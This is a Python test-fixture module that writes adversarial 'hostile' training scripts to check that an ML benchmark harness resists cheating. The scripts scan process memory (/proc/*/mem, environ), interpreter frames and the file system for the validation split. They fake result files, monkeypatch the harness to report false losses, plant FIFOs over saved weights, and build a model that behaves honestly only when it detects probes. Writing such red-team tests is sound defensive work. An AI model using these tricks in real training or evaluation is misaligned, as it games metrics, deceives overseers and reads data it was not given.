"""Hostile train scripts: the tiny task's baseline plus one trick each, written as an adversary would
write it, trying hard to win (tests/trainer/test_hostile.py runs each through run_experiment and through a
node's reproduction).

Every function returns the source text of one script. A script is the baseline with a block appended
at its end: later definitions of ``build_model`` and ``train`` replace the baseline's, so the model
and its training are the baseline's own unless the trick changes them.

The tricks that hunt for the validation split share one exploit (``_EXPLOIT``): whatever they find
("loot": a stretch of the task's bytes that is neither our training stream nor the rows we are asked
about) is indexed by 16-, 12- and 8-byte grams, and the model then predicts, from the bytes up to a
position only, the byte that followed the longest matching gram in the loot, where the loot agrees
on it. That is causal (no probe can see it) and it is calibrated: it serves one window in four only
(chosen by a hash of the window's first 8 bytes, so a probe of a window is treated as the window
is), so that finding the split gives a clear gain that stays above tiny's floor check rather than a
crash below it. A loot of anything but the split changes nothing. What training finds travels to
the model processes in a uint8 buffer of the weights (``loot``): the weights are all that crosses.
"""
from __future__ import annotations

from pathlib import Path

from trainer.tasks import builtin_tasks

TINY = builtin_tasks()["tiny"]
BASE = TINY.source
REPO = Path(__file__).resolve().parents[1]
MARKER = "\n\n# ---- hostile: everything below is the trick ----\n"


def _script(*blocks: str) -> str:
    return BASE + MARKER + "\n".join(blocks)


# --- the shared exploit: loot -> causal, calibrated lookup ------------------------------------------

_EXPLOIT = r'''
import mmap as _mmap
import os as _os
import sys as _sys
import time as _time

import numpy as _np

LOOT_BYTES = 1 << 17  # what training found, carried in the weights
GRAM = 8  # the lookup starts at position GRAM - 1; a window is chosen by its first GRAM bytes
ORDERS = (16, 12, 8)  # gram lengths the lookup keys on, longest first
SHARE = 4  # the lookup serves one window in SHARE: a clear gain, still above tiny's floor
SURE = 10.0  # logit of the looked-up byte (the rest 0): p ~ 0.99
MAX_SOURCE = 64 << 20
MASK_OWN = True  # blank the rows we are asked about in what we find (else: a lookahead, which probes catch)
TRAIN_COLLECT = None  # (model, loader) -> list of uint8 arrays: set by the trick
EVAL_COLLECT = None  # (model, idx) -> list of uint8 arrays, called on every eval batch: set by the trick


def _grams(data, k):
    """(..., n) uint8 -> (..., n - k + 1) uint64: a hash of the k bytes ending at each position."""
    w = _np.lib.stride_tricks.sliding_window_view(data, k, axis=-1)
    h = _np.zeros(w.shape[:-1], _np.uint64)
    for j in range(k):
        h = h * _np.uint64(0x100000001B3) + w[..., j].astype(_np.uint64) + _np.uint64(1)
    return h


class Index:
    """For each order k of ORDERS: the byte that follows each k-gram of the loot, where every
    occurrence of the gram agrees on it (an ambiguous gram predicts nothing)."""

    def __init__(self, raw=None):
        self.raw = raw if raw is not None else {k: ([], []) for k in ORDERS}
        self._tables = None

    def copy(self):
        return Index({k: (list(keys), list(nxt)) for k, (keys, nxt) in self.raw.items()})

    @property
    def empty(self):
        return not any(keys for keys, _ in self.raw.values())

    def add(self, pieces):
        for data in pieces:
            data = _np.ascontiguousarray(data, dtype=_np.uint8).reshape(-1)
            for k, (keys, nxt) in self.raw.items():
                if data.size > k:
                    keys.append(_grams(data[:-1], k))
                    nxt.append(data[k:])
        self._tables = None

    def tables(self):
        if self._tables is None:
            self._tables = {}
            for k, (keys, nxt) in self.raw.items():
                if not keys:
                    continue
                keys, nxt = _np.concatenate(keys), _np.concatenate(nxt)
                order = _np.lexsort((nxt, keys))
                keys, nxt = keys[order], nxt[order]
                starts = _np.flatnonzero(_np.r_[True, keys[1:] != keys[:-1]])
                ends = _np.r_[starts[1:], keys.size]
                agree = nxt[starts] == nxt[ends - 1]
                self._tables[k] = (keys[starts][agree], nxt[starts][agree])
        return self._tables

    def predict(self, x):
        """(B, T) uint8 -> (known (B, T) bool, byte (B, T) uint8): the longest order that knows."""
        known = _np.zeros(x.shape, bool)
        byte = _np.zeros(x.shape, _np.uint8)
        for k, (keys, nxt) in sorted(self.tables().items(), reverse=True):
            if x.shape[1] < k or not keys.size:
                continue
            grams = _grams(x, k)
            pos = _np.minimum(_np.searchsorted(keys, grams), keys.size - 1)
            hit = (keys[pos] == grams) & ~known[:, k - 1:]
            known[:, k - 1:] |= hit
            byte[:, k - 1:][hit] = nxt[pos][hit]
        return known, byte


def as_u8(v, min_len):
    """The bytes a Python object holds, as a uint8 array (a copy), or None."""
    import torch as _torch

    try:
        if isinstance(v, (bytes, bytearray)):
            a = _np.frombuffer(bytes(v), _np.uint8)
        elif isinstance(v, memoryview):
            a = _np.frombuffer(v.tobytes(), _np.uint8)
        elif isinstance(v, _mmap.mmap):
            a = _np.frombuffer(v[:MAX_SOURCE], _np.uint8)
        elif isinstance(v, _np.ndarray):
            a = v.reshape(-1)
            if a.dtype != _np.uint8:
                if a.dtype.kind not in "iu" or not a.size or a.min() < 0 or a.max() > 255:
                    return None
                a = a.astype(_np.uint8)
        elif isinstance(v, _torch.Tensor):
            if v.dtype.is_floating_point or v.dtype.is_complex or v.numel() <= min_len or v.numel() > MAX_SOURCE:
                return None
            t = v.detach().reshape(-1).cpu()
            if t.dtype != _torch.uint8:
                if t.dtype == _torch.bool or int(t.min()) < 0 or int(t.max()) > 255:
                    return None
                t = t.to(_torch.uint8)
            a = t.numpy()
        else:
            return None
    except Exception:
        return None
    if a.size <= min_len or a.size > MAX_SOURCE:
        return None
    return _np.array(a, copy=True)


def runs(buf, alphabet, min_run):
    """Stretches of at least min_run bytes all in the task's alphabet (a bool mask of 256)."""
    good = alphabet[buf]
    if not good.any():
        return []
    edges = _np.diff(_np.concatenate(([0], good.view(_np.int8), [0])))
    starts, ends = _np.flatnonzero(edges == 1), _np.flatnonzero(edges == -1)
    keep = (ends - starts) >= min_run
    return [buf[s:e].copy() for s, e in zip(starts[keep], ends[keep])]


def mask_rows(source, rows):
    """The source with every copy of a row we are asked about blanked: looking at the rest of our
    own input is the lookahead that the probes catch; anything else is loot."""
    source = _np.array(source, dtype=_np.uint8, copy=True)
    raw = source.tobytes()
    for row in rows:
        needle = row.tobytes()
        at = raw.find(needle)
        while at >= 0:
            source[at:at + len(needle)] = 0xFF
            at = raw.find(needle, at + 1)
    return source


def exploit(logits, idx, index):
    """On the chosen windows, where the bytes up to a position occur in the loot, predict the byte
    that followed them there. Uses bytes up to the position only: causal."""
    import torch as _torch

    if index.empty or idx.size(1) < GRAM:
        return logits
    x = idx.detach().cpu().numpy().astype(_np.uint8)
    first = _grams(x[:, :GRAM], GRAM)  # (B, 1): the window's first GRAM bytes
    chosen = ((first * _np.uint64(0x9E3779B97F4A7C15)) >> _np.uint64(58)) % _np.uint64(SHARE) == 0
    known, byte = index.predict(x)
    known[:, :GRAM - 1] = False
    rows, cols = _np.nonzero(known & chosen)
    if rows.size == 0:
        return logits
    out = logits.clone()
    r, c = _torch.as_tensor(rows), _torch.as_tensor(cols)
    out[r, c] = 0.0
    out[r, c, _torch.as_tensor(byte[rows, cols].astype(_np.int64))] = SURE
    return out


class Hostile(GPT):
    def __init__(self, vocab_size, context):
        super().__init__(vocab_size, context)
        self.register_buffer("loot", torch.zeros(LOOT_BYTES, dtype=torch.uint8))
        self.register_buffer("loot_len", torch.zeros((), dtype=torch.int64))
        self.register_buffer("seen", torch.zeros(256, dtype=torch.uint8))  # the bytes training saw
        self._base = None

    def alphabet(self):
        return self.seen.cpu().numpy().astype(bool)

    def stash(self, found, stream):
        """Keep the longest stretch of the task's bytes found that is not our own training stream
        (its tail, if too long)."""
        raw, alphabet = stream.tobytes(), self.alphabet()
        best = None
        for arr in found:
            for piece in runs(arr, alphabet, 1024):
                if raw.find(piece[:64].tobytes()) >= 0:
                    continue  # a copy of what we train on: no news
                if best is None or piece.size > best.size:
                    best = piece
        if best is not None:
            best = best[-LOOT_BYTES:]
            self.loot[: best.size] = torch.from_numpy(best.copy()).to(self.loot.device)
            self.loot_len.fill_(int(best.size))

    def forward(self, idx):
        logits = super().forward(idx)
        if self.training:
            return logits
        if self._base is None:
            self._base = Index()
            n = int(self.loot_len)
            if n:
                self._base.add([self.loot[:n].cpu().numpy()])
            self._base.tables()
        index = self._base
        if EVAL_COLLECT is not None:
            rows, alphabet = idx.detach().cpu().numpy().astype(_np.uint8), self.alphabet()
            pieces = []
            for arr in EVAL_COLLECT(self, idx):
                for run in runs(arr, alphabet, GRAM + 1) if arr is not None else ():
                    pieces += runs(mask_rows(run, rows) if MASK_OWN else run, alphabet, GRAM + 1)
            if pieces:
                index = index.copy()
                index.add(pieces)
        return exploit(logits, idx, index)


def build_model(vocab_size, context):
    return Hostile(vocab_size, context)


_honest_train = train


def train(model, loader, log):
    stream = loader.stream.cpu().numpy()
    seen = _np.zeros(256, _np.uint8)
    seen[_np.unique(stream)] = 1
    model.seen.copy_(torch.from_numpy(seen))
    if TRAIN_COLLECT is not None:
        model.stash([a for a in TRAIN_COLLECT(model, loader) if a is not None], stream)
    _honest_train(model, loader, log)
'''


# --- frame inspection --------------------------------------------------------------------------------

_FRAMES = r'''
import types as _types


def frame_sources(model, idx_or_loader=None, min_len=64):
    """Every buffer longer than the context held by any frame of any thread: locals, the globals of
    each frame's module, and what objects there hold (two levels down)."""
    found, seen = [], set()

    def consider(v, depth):
        if id(v) in seen:
            return
        seen.add(id(v))
        a = as_u8(v, min_len)
        if a is not None:
            found.append(a)
            return
        if depth <= 0 or isinstance(v, (str, int, float, type, _types.ModuleType, _types.FunctionType)):
            return
        try:
            if isinstance(v, dict):
                items = list(v.values())
            elif isinstance(v, (list, tuple, set, frozenset)):
                items = list(v)[:10000]
            elif hasattr(v, "__dict__"):
                items = list(vars(v).values())
            else:
                return
        except Exception:
            return
        for w in items:
            consider(w, depth - 1)

    frames = list(_sys._current_frames().values())
    for top in frames:
        f = top
        while f is not None:
            try:
                for v in list(f.f_locals.values()):
                    consider(v, 3)
                for v in list(f.f_globals.values()):
                    consider(v, 1)
            except Exception:
                pass
            f = f.f_back
    return found


TRAIN_COLLECT = frame_sources
EVAL_COLLECT = frame_sources
'''


def _exploit(mask_own: bool) -> str:
    return _EXPLOIT if mask_own else _EXPLOIT.replace("MASK_OWN = True", "MASK_OWN = False")


def frames(mask_own: bool = True) -> str:
    """Walk every frame's f_locals/f_globals (and what they hold) from forward() and train() for
    buffers longer than the context; use anything that is not our own input or training stream.
    With ``mask_own`` False the rows being asked are used too (a control: that is a lookahead)."""
    return _script(_exploit(mask_own), _FRAMES)


# --- gc scanning -----------------------------------------------------------------------------------

_GC = r'''
import gc as _gc
import types as _types


def gc_sources(model, idx_or_loader=None, min_len=1024):
    """Every uint8 buffer over 1 KiB the collector knows of, or that a container it knows holds."""
    found, seen = [], set()
    for o in _gc.get_objects():
        candidates = [o]
        if isinstance(o, (dict, list, tuple, _types.FrameType)):
            try:
                candidates += _gc.get_referents(o)
            except Exception:
                pass
        for v in candidates:
            if id(v) in seen:
                continue
            seen.add(id(v))
            if isinstance(v, (bytes, bytearray, memoryview, _mmap.mmap, _np.ndarray)) or type(v).__name__ in (
                    "Tensor", "Parameter"):
                a = as_u8(v, min_len)
                if a is not None:
                    found.append(a)
    return found


TRAIN_COLLECT = gc_sources
EVAL_COLLECT = gc_sources
'''


def gc_scan(mask_own: bool = True) -> str:
    """Scan gc.get_objects() (and their referents) for any uint8 buffer over 1 KiB, in training and
    on every eval batch. ``mask_own`` as for frames()."""
    return _script(_exploit(mask_own), _GC)


# --- /proc and the file system ---------------------------------------------------------------------

_PROC = r'''
import stat as _stat

MIN_RUN = 8192  # a stretch of the task's bytes this long is data, not our 4 KiB batch
CHUNK = 16 << 20


def _scan_mem(pid, alphabet, deadline, found):
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        fd = _os.open(f"/proc/{pid}/mem", _os.O_RDONLY)
    except OSError:
        return
    try:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or parts[1][0] != "r" or (len(parts) > 5 and parts[5] in ("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if end - start > (1 << 30):
                continue
            at = start
            while at < end and _time.monotonic() < deadline:
                try:
                    chunk = _os.pread(fd, min(CHUNK, end - at), at)
                except OSError:
                    break
                if not chunk:
                    break
                found.extend(runs(_np.frombuffer(chunk, _np.uint8), alphabet, MIN_RUN))
                at += len(chunk)
    finally:
        _os.close(fd)


def _scan_file(path, alphabet, found):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK | _os.O_NOFOLLOW)
    except OSError:
        return
    try:
        info = _os.fstat(fd)
        if not _stat.S_ISREG(info.st_mode) or not MIN_RUN <= info.st_size <= (512 << 20):
            return
        head = _os.pread(fd, 4096, 0)
        if not head or alphabet[_np.frombuffer(head, _np.uint8)].mean() < 0.9:
            tail = _os.pread(fd, 4096, max(0, info.st_size - 4096))
            if not tail or alphabet[_np.frombuffer(tail, _np.uint8)].mean() < 0.9:
                return
        data = b"".join(iter(lambda: _os.read(fd, CHUNK), b""))
        found.extend(runs(_np.frombuffer(data, _np.uint8), alphabet, MIN_RUN))
    except OSError:
        pass
    finally:
        _os.close(fd)


def file_sources(alphabet, roots, deadline):
    """Every readable file under the roots that holds a long stretch of the task's bytes."""
    found, walked = [], set()
    for root in roots:
        if not root or not _os.path.isdir(root):
            continue
        for top, dirs, files in _os.walk(root, followlinks=False):
            if _time.monotonic() > deadline:
                return found
            real = _os.path.realpath(top)
            if real in walked or real.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            walked.add(real)
            for name in files:
                _scan_file(_os.path.join(top, name), alphabet, found)
    return found


def likely_roots():
    home = _os.environ.get("HOME") or _os.path.expanduser("~")
    return [_os.getcwd(), _os.environ.get("TMPDIR"), "/tmp", "/var/tmp", "/dev/shm", home,
            _os.path.join(home, ".ralphswarm", "cache"), _os.environ.get("RALPHSWARM_HOME"),
            "/root/.ralphswarm/cache", "/root", "/home", "/work", "/srv", "/mnt", "/data", "/opt", "/var",
            _os.path.dirname(_sys.prefix), "/"]


def proc_sources(alphabet, seconds):
    """Our own memory, every other process's we can open (the parent, pid 1), their environments
    and command lines, and the file system, most likely places first."""
    deadline = _time.monotonic() + seconds
    found = []
    _scan_mem("self", alphabet, deadline, found)
    pids = sorted({_os.getppid(), 1, *(int(p) for p in _os.listdir("/proc") if p.isdigit())} - {_os.getpid()})
    for pid in pids:
        _scan_mem(pid, alphabet, deadline, found)
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    found.extend(runs(_np.frombuffer(f.read(), _np.uint8), alphabet, 64))
            except OSError:
                pass
    found.extend(file_sources(alphabet, likely_roots(), deadline))
    return found


def train_collect(model, loader):
    return proc_sources(model.alphabet(), 20.0)


_eval_found = None


def eval_collect(model, idx):
    global _eval_found
    if _eval_found is None:  # once per model process: memory, other processes, files
        _eval_found = proc_sources(model.alphabet(), 10.0)
    return _eval_found


TRAIN_COLLECT = train_collect
EVAL_COLLECT = eval_collect
'''


def proc_and_files() -> str:
    """Read /proc/self/mem region by region, /proc/<ppid>/mem, /proc/1/mem, every /proc/*/environ
    and cmdline, and every readable file under /, /tmp, $HOME, ~/.ralphswarm/cache, ... for a long
    stretch of the task's bytes that is not our own training stream; in training (carried in the
    weights) and in each model process."""
    return _script(_EXPLOIT, _PROC)


# --- a written result file -------------------------------------------------------------------------

_RESULT_FILE = r'''
import json as _json
import os as _os

_FAKE = {"val_bpb": "0.100000", "outcome": "ok", "tokens": 10 ** 9, "wall_s": "0.001", "flops_per_token": 1,
         "curve": [[1024, "0.010000"]]}


def _plant():
    for name in ("result.json", "progress.json", "outcome.json", "done.json", "val_bpb", "metrics.json"):
        try:
            with open(name, "w") as f:
                _json.dump(_FAKE, f)
        except OSError:
            pass
    for path in ("../result.json", "/tmp/result.json"):
        try:
            with open(path, "w") as f:
                _json.dump(_FAKE, f)
        except OSError:
            pass
    print(_json.dumps({"result": _FAKE}), flush=True)
    print("val_bpb: 0.100000", flush=True)
    print(_json.dumps(_FAKE), file=__import__("sys").stderr, flush=True)


_plant()  # at import: in training and in each model process
_honest_train = train


def train(model, loader, log):
    _honest_train(model, loader, log)
    _plant()
'''


def result_file() -> str:
    """Write result.json / progress.json / outcome.json (val_bpb "0.1") in the scratch directory, its
    parent and /tmp, and print a fake result on stdout and stderr, at import and after training."""
    return _script(_RESULT_FILE)


# --- monkeypatching the harness at import -----------------------------------------------------------

_CHANNEL_PATCH = r'''
import trainer.harness.channel as _channel
import trainer.harness.curve as _curve
import trainer.harness.loader as _loader

_send = _channel.send
_recv = _channel.recv
_SNOOPED = []


def _fake_send(sock, obj, fds=()):
    obj = dict(obj)
    if "point" in obj and isinstance(obj["point"], dict):
        obj["point"] = dict(obj["point"], loss=0.01)
    if "done" in obj and isinstance(obj["done"], dict):
        done = dict(obj["done"])
        budget = _SNOOPED[0] if _SNOOPED else 60000
        done["curve"] = [[max(1, k * budget // 64), "0.010000"] for k in range(1, 65)]
        done.update(val_bpb="0.100000", tokens=10 ** 9, wall_s="0.001", cpu_s="0.001", flops_per_token=1,
                    entropy_bpb="0.1", seed=12345)
        obj["done"] = done
    return _send(sock, obj, fds)


def _snoop_recv(sock):
    message, fds = _recv(sock)
    if isinstance(message, dict):
        _SNOOPED.append(message)  # whatever the runner says: a target, a window, anything
    return message, fds


_channel.send = _fake_send
_channel.recv = _snoop_recv


_real_log = _curve.CurveRecorder.log


def _fake_log(self, loss, tokens):
    return _real_log(self, min(float(loss), 0.01), tokens)


_curve.CurveRecorder.log = _fake_log  # the class the harness already imported: patch its method
_real_batches = _loader.BudgetLoader.batches


def _batches(self, batch_size, seq_len):
    _SNOOPED.insert(0, self.budget_tokens)
    return _real_batches(self, batch_size, seq_len)


_loader.BudgetLoader.batches = _batches
'''


def channel_patch() -> str:
    """At import (in every process), replace trainer.harness.channel.send and recv and the curve
    recorder: every progress point and the final curve report a loss of 0.01, and the outcome carries
    val_bpb "0.1", tokens 10^9, wall_s "0.001", flops_per_token 1."""
    return _script(_CHANNEL_PATCH)


_EARLY_DONE = r'''
import json as _json
import os as _os
import socket as _socket
import sys as _sys
import time as _time

import trainer.harness.channel as _channel

PASSES = 2  # the budget's tokens, PASSES times over
QUIET_S = 8.0  # the runner waits up to 10 s for a process that sent its outcome to exit: stay inside
_sent_at = None


def _channel_socket():
    # The harness's channel: from a caller's frame, else the descriptor its config names.
    f = _sys._getframe()
    while f is not None:
        sock = f.f_locals.get("sock")
        if isinstance(sock, _socket.socket):
            return sock
        f = f.f_back
    with open("config.json") as fh:
        return _socket.socket(fileno=_os.dup(_json.load(fh)["channel"]))


def _report_done_now(budget):
    # Tell the runner that training is over, with a made-up curve, before it starts: its clock
    # stops here, and it then waits for the process to exit before it reads the weights.
    global _sent_at
    import torch as _t

    curve = [[max(1, k * budget // 64), f"{3.5 - 1.0 * k / 64:.6f}"] for k in range(1, 65)]
    _channel.send(_channel_socket(), {"done": {"curve": curve, "device": "cpu", "torch": _t.__version__}})
    _sent_at = _time.monotonic()


def train(model, loader, log):
    if _os.path.exists("tokens.bin"):  # the training process (a model process has no token file)
        _report_done_now(loader.budget_tokens)
    optimizers = make_optimizers(model)
    model.train()
    for p in range(PASSES):
        loader.tokens = 0
        for x, y in loader.batches(DEVICE_BATCH_SIZE, SEQ_LEN):
            if p and _sent_at is not None and _time.monotonic() - _sent_at > QUIET_S:
                return  # the runner's patience runs out: save what we have
            logits = model(x)
            loss = F.cross_entropy(logits.reshape(-1, logits.size(-1)), y.reshape(-1))
            loss.backward()
            log(loss.detach())
            step(optimizers, (p + loader.progress) / PASSES)
'''


def early_done() -> str:
    """Find the harness's channel (run_train()'s frame, or the descriptor in config.json) and send the
    runner a made-up ``done`` before training starts; then train two passes over the budget
    (rewinding the loader) while the runner waits for the process to exit, cutting the second short
    8 s after the fake outcome so as to exit within the runner's 10 s of patience."""
    return _script(_EARLY_DONE)


# --- the task's generator -----------------------------------------------------------------------------

_GENERATOR_IMPORT = r'''
import importlib.util as _ilu

FALLBACK = {fallback!r}


def _load(path):
    spec = _ilu.spec_from_file_location("_stolen_markov", path)
    module = _ilu.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _find_generator():
    """trainer.tasks / trainer.markov: imported, else found on disk wherever they might be."""
    try:
        import trainer.tasks as tasks  # noqa: F401
        import trainer.markov as markov
        return markov
    except ImportError:
        if not FALLBACK:
            raise
    candidates = []
    for entry in list(_sys.path) + ["/work/main", "/work", _os.getcwd(), "/root", "/home", "/srv", "/opt"]:
        candidates.append(_os.path.join(entry or ".", "trainer", "markov.py"))
    for entry in _sys.path:  # editable installs name the source tree
        try:
            for name in _os.listdir(entry):
                if name.startswith("__editable__") and name.endswith(".py"):
                    text = open(_os.path.join(entry, name)).read()
                    for part in text.split("'"):
                        if part.endswith("/trainer"):
                            candidates.append(_os.path.join(part, "markov.py"))
        except OSError:
            pass
    deadline = _time.monotonic() + 10.0
    for top, dirs, files in _os.walk("/", followlinks=False):
        if _time.monotonic() > deadline:
            break
        if top.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        if "markov.py" in files and top.endswith("trainer"):
            candidates.append(_os.path.join(top, "markov.py"))
    for path in candidates:
        if _os.path.isfile(path):
            try:
                return _load(path)
            except Exception:
                continue
    return None


def generator_collect(model, loader):
    markov = _find_generator()
    if markov is None:
        return []  # nothing to steal: train honestly
    data = markov.MarkovChain(markov.MarkovSpec()).sample((1 << 20) + (1 << 16), stream_seed=1)
    return [_np.frombuffer(data[-(1 << 16):], _np.uint8).copy()]


TRAIN_COLLECT = generator_collect
'''


def generator_import(fallback: bool = True) -> str:
    """``import trainer.tasks`` / ``trainer.markov`` to regenerate tiny's data (the validation split
    is its last 64 KiB) into the loot; the sandbox has no such module. With ``fallback`` the script
    then looks for markov.py on disk (sys.path, the editable install's source tree, a walk of /)
    and trains honestly when it finds none; without, the ImportError ends the run."""
    return _script(_EXPLOIT, _GENERATOR_IMPORT.replace("{fallback!r}", repr(fallback)))


def generator_inline() -> str:
    """The task's generator copied into the script (trainer/markov.py is public code, and tiny's
    description names the chain): regenerate tiny's data in training, keep its validation split as
    loot, use it through the calibrated causal lookup."""
    markov = (REPO / "trainer" / "markov.py").read_text(encoding="utf-8")
    block = (
        "import types as _types\n\n"
        f"_MARKOV_SOURCE = {markov!r}\n\n\n"
        "def inline_collect(model, loader):\n"
        "    markov = _types.ModuleType('_copied_markov')\n"
        "    _sys.modules['_copied_markov'] = markov  # dataclasses look their module up\n"
        "    exec(compile(_MARKOV_SOURCE, 'markov.py', 'exec'), markov.__dict__)\n"
        "    data = markov.MarkovChain(markov.MarkovSpec()).sample((1 << 20) + (1 << 16), stream_seed=1)\n"
        "    return [_np.frombuffer(data[-(1 << 16):], _np.uint8).copy()]\n\n\n"
        "TRAIN_COLLECT = inline_collect\n"
    )
    return _script(_EXPLOIT, block)


# --- training past the budget -------------------------------------------------------------------------

_LOADER_RESET = r'''
PASSES = {passes}


def train(model, loader, log):
    """PASSES passes over the budget's tokens: rewind the loader after each, and run one LR
    schedule over all of them."""
    optimizers = make_optimizers(model)
    model.train()
    for p in range(PASSES):
        loader.tokens = 0
        for x, y in loader.batches(DEVICE_BATCH_SIZE, SEQ_LEN):
            logits = model(x)
            loss = F.cross_entropy(logits.reshape(-1, logits.size(-1)), y.reshape(-1))
            loss.backward()
            log(loss.detach())
            step(optimizers, (p + loader.progress) / PASSES)
'''


def past_budget_loader(passes: int = 4) -> str:
    """Train ``passes`` epochs over the budget by rewinding the loader (loader.tokens = 0) and
    iterating loader.batches() again."""
    return _script(_LOADER_RESET.replace("{passes}", str(passes)))


_TOKENS_FILE = r'''
import glob as _glob
import os as _os

PASSES = {passes}
_honest_train = train


def train(model, loader, log):
    """The budget as usual, then PASSES - 1 more passes over the token file re-read from disk."""
    _honest_train(model, loader, log)
    names = [n for n in _glob.glob("*.bin") + _glob.glob("*/*.bin") if _os.path.isfile(n)]
    data = open(max(names, key=_os.path.getsize), "rb").read()
    stream = torch.frombuffer(bytearray(data), dtype=torch.uint8)
    per = DEVICE_BATCH_SIZE * SEQ_LEN
    optimizers = make_optimizers(model)
    for p in range(PASSES - 1):
        for start in range(0, min(stream.numel() - 1, loader.budget_tokens) - per, per):
            chunk = stream[start:start + per + 1].long()
            x = chunk[:-1].view(DEVICE_BATCH_SIZE, SEQ_LEN).to(loader.device)
            y = chunk[1:].view(DEVICE_BATCH_SIZE, SEQ_LEN).to(loader.device)
            logits = model(x)
            loss = F.cross_entropy(logits.reshape(-1, logits.size(-1)), y.reshape(-1))
            loss.backward()
            step(optimizers, 1.0 - 0.6 * (p + 1) / PASSES)
'''


def past_budget_tokens_file(passes: int = 4) -> str:
    """Train the budget through the loader, then re-read the token file (tokens.bin, found by
    globbing the scratch directory) and train ``passes - 1`` more epochs over it."""
    return _script(_TOKENS_FILE.replace("{passes}", str(passes)))


_MANY_STEPS = r'''
STEPS_PER_BATCH = {steps}


def train(model, loader, log):
    """STEPS_PER_BATCH forward/backward/optimizer steps on every batch."""
    optimizers = make_optimizers(model)
    model.train()
    for x, y in loader.batches(DEVICE_BATCH_SIZE, SEQ_LEN):
        for k in range(STEPS_PER_BATCH):
            logits = model(x)
            loss = F.cross_entropy(logits.reshape(-1, logits.size(-1)), y.reshape(-1))
            loss.backward()
            if k == 0:
                log(loss.detach())
            step(optimizers, loader.progress)
'''


def many_steps(steps: int = 4) -> str:
    """``steps`` optimizer steps (each its own forward and backward) on every batch."""
    return _script(_MANY_STEPS.replace("{steps}", str(steps)))


# --- a model that behaves differently when probed -----------------------------------------------------

_PROBE_AWARE = r'''
import numpy as _np

RARE = 0.02  # a transition this rare in training is a seam
MARGIN = 0.009  # ~3 standard deviations of a real batch's seam rate over 4032 transitions
SURE = 10.0


class ProbeAware(GPT):
    """Looks ahead (the byte each position predicts is in the input), except on batches that look
    like probes: a probe's rows have their bytes from a random cut on replaced by training bytes, so
    a probe batch holds about 1.8% more transitions that are rare in the training data than a real
    batch does. Trigram statistics of the training stream travel in the weights."""

    def __init__(self, vocab_size, context):
        super().__init__(vocab_size, context)
        self.register_buffer("rare", torch.zeros(256 * 256, 256, dtype=torch.uint8))
        self.register_buffer("base_rate", torch.zeros(()))
        self.batches = 0

    def learn(self, stream):
        s = stream.cpu().numpy().astype(_np.int64)
        ctx = s[:-2] * 256 + s[1:-1]
        codes, counts = _np.unique(ctx * 256 + s[2:], return_counts=True)
        totals = _np.bincount(ctx, minlength=256 * 256)
        rare = _np.ones(256 * 256 * 256, _np.uint8)  # never seen: rare
        rare[codes] = counts < RARE * totals[codes // 256]
        rare = rare.reshape(256 * 256, 256)
        self.rare.copy_(torch.from_numpy(rare))
        self.base_rate.fill_(float(rare[ctx, s[2:]].mean()))

    def seam_rate(self, x):
        ctx = x[:, :-2] * 256 + x[:, 1:-1]
        return float(self.rare[ctx, x[:, 2:]].float().mean())

    def forward(self, idx):
        logits = super().forward(idx)
        if self.training:
            return logits
        self.batches += 1
        if self.seam_rate(idx) > float(self.base_rate) + MARGIN:
            return logits  # a probe: answer honestly
        out = logits.clone()
        out[:, :-1] = 0.0
        out[:, :-1].scatter_(-1, idx[:, 1:, None], SURE)  # the next byte is right there
        return out


def build_model(vocab_size, context):
    return ProbeAware(vocab_size, context)


_honest_train = train


def train(model, loader, log):
    model.learn(loader.stream)
    _honest_train(model, loader, log)
'''


def probe_aware() -> str:
    """A model that looks ahead on real batches and answers honestly on batches that look like
    probes (more rare transitions, where a probe's replaced tail meets its real prefix)."""
    return _script(_PROBE_AWARE)


# --- FIFOs, symlinks and directories planted in scratch ------------------------------------------------

_PLANT_TRAIN = r'''
import os as _os

import trainer.harness.tensorfile as _tensorfile

KIND = {kind!r}
_save = _tensorfile.save


def _plant(path):
    path = str(path)
    _os.unlink(path)
    if KIND == "fifo":
        _os.mkfifo(path)
    elif KIND == "symlink":
        _os.symlink("/dev/zero", path)
    elif KIND == "dir":
        _os.mkdir(path)
        _os.mkfifo(_os.path.join(path, "x"))


def _save_then_plant(state, path):
    _save(state, path)  # the real weights are written ...
    _plant(path)  # ... and replaced before the runner reads them


_tensorfile.save = _save_then_plant
'''


def planted_weights(kind: str) -> str:
    """The training process replaces weights.safetensors, right after the harness saved it, by a
    FIFO (``fifo``), a symlink to /dev/zero (``symlink``) or a directory holding a FIFO (``dir``)."""
    assert kind in ("fifo", "symlink", "dir")
    return _script(_PLANT_TRAIN.replace("{kind!r}", repr(kind)))


_PLANT_MODEL = r'''
import os as _os


def _plant_in_model_scratch():
    """In a model process (its scratch holds no token file): a FIFO where the weights are to go, a
    symlink to /dev/zero beside it, and a FIFO at every name the runner's temporary file could take
    for the first 4096 pids."""
    if _os.path.exists("tokens.bin"):
        return
    for name, make in (("weights.safetensors", _os.mkfifo),
                       ("weights.safetensors.tmp", lambda p: _os.symlink("/dev/zero", p))):
        try:
            make(name)
        except OSError:
            pass
    for pid in range(1, 4097):
        try:
            _os.mkfifo(f".weights.safetensors.{pid}")
        except OSError:
            pass


_plant_in_model_scratch()
'''


_PLANT_RACING = r'''
import os as _os
import stat as _stat
import time as _time


def _planter():
    """A forked child of the training process: whenever the weights file is a complete regular file
    (its size stable between two looks), swap in a FIFO, until the run ends."""
    last = -1
    deadline = _time.monotonic() + 600
    while _time.monotonic() < deadline:
        try:
            info = _os.lstat("weights.safetensors")
        except OSError:
            last = -1
        else:
            if _stat.S_ISREG(info.st_mode) and info.st_size and info.st_size == last:
                try:
                    _os.unlink("weights.safetensors")
                    _os.mkfifo("weights.safetensors")
                except OSError:
                    pass
                last = -1
            else:
                last = info.st_size
        _time.sleep(0.0005)


if _os.path.exists("tokens.bin") and _os.fork() == 0:  # the training process
    try:
        _planter()
    finally:
        _os._exit(0)
'''


def planted_by_a_racing_child() -> str:
    """A child forked at import swaps the weights file for a FIFO as soon as the harness has written
    it, racing the harness's exit (the run ends when its main process does)."""
